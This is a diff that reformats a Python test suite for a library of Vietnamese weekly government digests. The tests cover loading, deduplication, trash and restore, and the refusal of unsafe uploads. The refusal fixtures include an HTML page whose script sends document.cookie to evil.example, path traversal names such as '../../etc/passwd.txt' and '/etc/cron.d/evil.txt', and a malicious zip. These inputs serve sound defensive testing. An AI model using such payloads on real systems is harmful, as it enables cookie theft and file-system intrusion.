@@ -94,15 +94,21 @@ def test_load_equals_the_pipeline_on_the_same_folder(lib):
     items, report = lib.load()
     expected, expected_report = pipeline.load([lib.digests_dir])
     pd.testing.assert_frame_equal(items, expected)
-    assert [(f.path, f.digest_id, f.items) for f in report.files] == \
-           [(f.path, f.digest_id, f.items) for f in expected_report.files]
+    assert [(f.path, f.digest_id, f.items) for f in report.files] == [
+        (f.path, f.digest_id, f.items) for f in expected_report.files
+    ]
     assert len(items) == 70
 
 
 def test_entries_describe_each_file(lib):
     entries = lib.entries()
-    assert [e.week_start.isoformat() for e in entries] == \
-           ["2020-03-02", "2022-06-20", "2023-08-07", "2024-10-28", "2025-03-17"]  # sorted by week
+    assert [e.week_start.isoformat() for e in entries] == [
+        "2020-03-02",
+        "2022-06-20",
+        "2023-08-07",
+        "2024-10-28",
+        "2025-03-17",
+    ]  # sorted by week
     by_name = {e.file_name: e for e in entries}
     e = by_name["001_6a1a74cf8d1e2b76.txt"]
     assert (e.digest_id, e.items, e.size, e.loaded) == ("7a2c3472308634cb", 24, len(SEED_BYTES[e.file_name]), True)
@@ -136,9 +142,11 @@ def test_preview_stores_nothing_and_add_stores_the_raw_bytes(empty):
 def test_the_same_digest_again_changes_nothing(lib):
     before = snapshot(lib.root)
     token = lib.state_token()
-    uploads = [("copy-under-another-name.txt", SEED_002),  # identical bytes
-               ("000.html", PORTAL_000.read_bytes()),  # same digest saved as HTML: same week, same items
-               ("002-reworded.txt", REWORDED_002)]  # another text, same week and same items
+    uploads = [
+        ("copy-under-another-name.txt", SEED_002),  # identical bytes
+        ("000.html", PORTAL_000.read_bytes()),  # same digest saved as HTML: same week, same items
+        ("002-reworded.txt", REWORDED_002),
+    ]  # another text, same week and same items
     candidates = lib.preview(uploads)
     assert [c.status for c in candidates] == [SAME, SAME, SAME]
     assert candidates[0].same_as == "002_0b14f9dcf9426668.txt"
@@ -189,8 +197,9 @@ def test_conflict_resolved_by_replacing_moves_the_stored_one_to_the_trash(lib):
     assert trashed.original == "002_0b14f9dcf9426668.txt"
     assert trashed.reason == "replaced by 002-altered.txt"
     items, _ = lib.load()
-    assert len(items) == 70 and "391/QĐ-UBND" in set(items["doc_symbol"]) and "381/QĐ-UBND" not in set(
-        items["doc_symbol"])
+    assert (
+        len(items) == 70 and "391/QĐ-UBND" in set(items["doc_symbol"]) and "381/QĐ-UBND" not in set(items["doc_symbol"])
+    )
     # Undo: remove the new one, restore the old one: byte for byte where we started.
     lib.remove("002-altered.txt")
     lib.restore(trashed.trash_id)
@@ -224,15 +233,18 @@ def test_unknown_resolution_is_refused_before_anything_is_written(lib):
     assert snapshot(lib.root) == before
 
 
-@pytest.mark.parametrize(("name", "expected"), [
-    ("../../etc/passwd.txt", "passwd.txt"),
-    ("C:\\Users\\an\\Bản tin tuần 44.TXT", "Bản_tin_tuần_44.txt"),
-    (".hidden.txt", "hidden.txt"),  # a leading dot would hide it from the loader
-    ("a<b>|c?.html", "a_b_c.html"),
-    ("CON.txt", "CON_.txt"),
-    ("...", "digest.txt"),
-    ("tin\x00tuần.md", "tin_tuần.md"),
-])
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("../../etc/passwd.txt", "passwd.txt"),
+        ("C:\\Users\\an\\Bản tin tuần 44.TXT", "Bản_tin_tuần_44.txt"),
+        (".hidden.txt", "hidden.txt"),  # a leading dot would hide it from the loader
+        ("a<b>|c?.html", "a_b_c.html"),
+        ("CON.txt", "CON_.txt"),
+        ("...", "digest.txt"),
+        ("tin\x00tuần.md", "tin_tuần.md"),
+    ],
+)
 def test_safe_names(name, expected):
     assert safe_name(name) == expected
 
@@ -250,8 +262,10 @@ def test_long_names_fit_file_systems_and_clashing_names_get_a_suffix(empty):
 
 
 def refusal_cases(tmp_path: Path) -> dict[str, tuple[str, bytes]]:
-    script_page = (b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>"
-                   b"<body><p>Khuy\xe1\xba\xbfn m\xc3\xa3i</p><script>alert(1)</script></body></html>")
+    script_page = (
+        b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>"
+        b"<body><p>Khuy\xe1\xba\xbfn m\xc3\xa3i</p><script>alert(1)</script></body></html>"
+    )
     return {
         "wrong_type": ("digest.pdf", SEED_002),
         "unsafe_zip": ("evil.zip", zip_bytes({"ok.txt": SEED_002, "../evil.txt": SEED_BYTES[SEEDS[0].name]})),
@@ -263,8 +277,7 @@ def refusal_cases(tmp_path: Path) -> dict[str, tuple[str, bytes]]:
     }
 
 
-@pytest.mark.parametrize("case", ["wrong_type", "unsafe_zip", "zip_bomb", "not_a_digest", "text", "binary",
-                                  "bad_zip"])
+@pytest.mark.parametrize("case", ["wrong_type", "unsafe_zip", "zip_bomb", "not_a_digest", "text", "binary", "bad_zip"])
 def test_bad_input_is_refused_naming_the_file_and_changes_nothing(lib, tmp_path, case):
     name, data = refusal_cases(tmp_path)[case]
     before = snapshot(lib.root)
@@ -312,11 +325,14 @@ def test_uploaded_bytes_over_the_size_limit_are_refused(lib, monkeypatch):
     assert (cand.status, cand.code) == (REFUSED, "too_large")
 
 
-@pytest.mark.parametrize(("member", "why"), [
-    ("/etc/cron.d/evil.txt", "points outside the folder"),
-    ("C:\\Windows\\evil.txt", "points outside the folder"),
-    ("a\\..\\..\\evil.txt", "points outside the folder"),
-])
+@pytest.mark.parametrize(
+    ("member", "why"),
+    [
+        ("/etc/cron.d/evil.txt", "points outside the folder"),
+        ("C:\\Windows\\evil.txt", "points outside the folder"),
+        ("a\\..\\..\\evil.txt", "points outside the folder"),
+    ],
+)
 def test_zip_paths_that_escape_are_refused(empty, member, why):
     [cand] = empty.preview([("x.zip", zip_bytes({"fine.txt": SEED_002, member: SEED_002}))])
     assert cand.status == REFUSED and why in cand.reason and member in cand.reason
@@ -413,8 +429,10 @@ def test_two_concurrent_adds_leave_a_consistent_library(tmp_path, attempt):
     ctx = multiprocessing.get_context("fork")
     barrier = ctx.Barrier(2)
     # Both add digest 2 (under different names); each also adds two others; both previews see an empty library.
-    jobs = [ctx.Process(target=_add_in_child, args=(str(root), names[:3], "", barrier)),
-            ctx.Process(target=_add_in_child, args=(str(root), names[2:][::-1], "b-", barrier))]
+    jobs = [
+        ctx.Process(target=_add_in_child, args=(str(root), names[:3], "", barrier)),
+        ctx.Process(target=_add_in_child, args=(str(root), names[2:][::-1], "b-", barrier)),
+    ]
     for job in jobs:
         job.start()
     for job in jobs:
@@ -533,8 +551,9 @@ def test_a_removal_that_fails_after_the_sidecar_changes_nothing(lib, monkeypatch
     monkeypatch.setattr(atomic, "rename", real_rename)
     lib.remove("7a2c3472308634cb")  # the next writer sweeps the half-made trash entry
     assert len(list(lib.trash_dir.iterdir())) == 1
-    assert {k: v for k, v in snapshot(lib.root).items() if not k.startswith(".trash/")} == \
-           {k: v for k, v in before.items() if k != "digests/001_6a1a74cf8d1e2b76.txt"}
+    assert {k: v for k, v in snapshot(lib.root).items() if not k.startswith(".trash/")} == {
+        k: v for k, v in before.items() if k != "digests/001_6a1a74cf8d1e2b76.txt"
+    }
 
 
 # ------------------------------------------------------------------------ remove, trash, restore
@@ -679,9 +698,13 @@ def test_state_token_changes_with_the_library(lib):
 def test_quality_table_of_the_seed_library(lib):
     items, report = lib.load()
     table = quality_table(items, report).set_index("file")
-    assert list(table.index) == ["002_0b14f9dcf9426668.txt", "004_b8308b7cb78d46d0.txt",
-                                 "001_6a1a74cf8d1e2b76.txt", "003_92956dbfc23f0d06.txt",
-                                 "000_93a2f3d2e69a4580.txt"]
+    assert list(table.index) == [
+        "002_0b14f9dcf9426668.txt",
+        "004_b8308b7cb78d46d0.txt",
+        "001_6a1a74cf8d1e2b76.txt",
+        "003_92956dbfc23f0d06.txt",
+        "000_93a2f3d2e69a4580.txt",
+    ]
     row = table.loc["000_93a2f3d2e69a4580.txt"]
     assert (row["blocks"], row["summary_entries"], row["items"]) == (7, 4, 7)
     assert (row["year_conflicts"], row["not_in_summary"], row["week"]) == (1, 4, "2025-W12")
@@ -705,8 +728,15 @@ def test_quality_counts_each_kind_of_problem_in_its_column():
     items, _ = pipeline.load([SEEDS[2]])
     items.loc[items["item_no"] == 3, "doc_type"] = "Khác"
     file = FileReport(path="/x/002.txt", digest_id=items["digest_id"].iloc[0], blocks=8, items=8, summary_entries=8)
-    for code in ("unknown_leader", "unknown_unit", "vp_letter_without_leader", "unknown_sector",
-                 "summary_without_item", "no_document_date", "no_document"):
+    for code in (
+        "unknown_leader",
+        "unknown_unit",
+        "vp_letter_without_leader",
+        "unknown_sector",
+        "summary_without_item",
+        "no_document_date",
+        "no_document",
+    ):
         file.warn(code, code, 3 if code != "summary_without_item" else None)
     failed = FileReport(path="/x/bad.txt", digest_id="bad")
     failed.warn("no_title", "no title")
@@ -720,8 +750,12 @@ def test_quality_counts_each_kind_of_problem_in_its_column():
     assert (ok["without_doc_number"], ok["unrecognised_issuers"], ok["unknown_sectors"]) == (1, 3, 1)
     assert (ok["summary_without_item"], ok["other_warnings"]) == (1, 1)  # no_document_date is "other"
     bad = table.loc["bad.txt"]
-    assert (bool(bad["loaded"]), bad["errors"], bad["other_warnings"], bad["items"]) == \
-           (False, "this text is not a weekly digest", 1, 0)
+    assert (bool(bad["loaded"]), bad["errors"], bad["other_warnings"], bad["items"]) == (
+        False,
+        "this text is not a weekly digest",
+        1,
+        0,
+    )
     assert table.loc["copy.txt", "unknown_sectors"] == 0
     problems = problem_table(items, report)
     assert problems[problems["file"] == "copy.txt"]["code"].tolist() == ["duplicate"]
